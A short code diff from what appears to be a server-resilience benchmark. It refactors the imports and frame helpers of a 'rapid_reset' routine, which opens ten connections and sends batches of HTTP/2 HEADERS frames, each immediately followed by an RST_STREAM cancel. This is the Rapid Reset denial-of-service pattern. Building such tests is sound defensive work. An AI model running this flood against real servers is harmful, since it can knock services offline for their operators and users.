@@ -5,20 +5,9 @@ from __future__ import annotations
 import asyncio
 
 from bench.attack.door import Door
+from bench.attack.frames import CANCEL, GREETING, PING, RST_STREAM, frame, head, request, settings
 from bench.attack.seen import Seen
-from bench.attack.wire import (
-    CANCEL,
-    END_HEADERS,
-    GREETING,
-    HEADERS,
-    PING,
-    RST_STREAM,
-    Connection,
-    crowd,
-    frame,
-    request,
-    settings,
-)
+from bench.attack.wire import Connection, crowd
 
 CONNECTIONS = 10
 AT_ONCE = 100
@@ -32,7 +21,7 @@ async def rapid_reset(door: Door, seen: Seen, count: int) -> None:
 
     def pair(number: int) -> bytes:
         stream = 2 * number + 1
-        return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
+        return head(stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
 
     async with crowd(door.address, seen, CONNECTIONS) as connections:
         for begin in range(0, count, AT_ONCE):
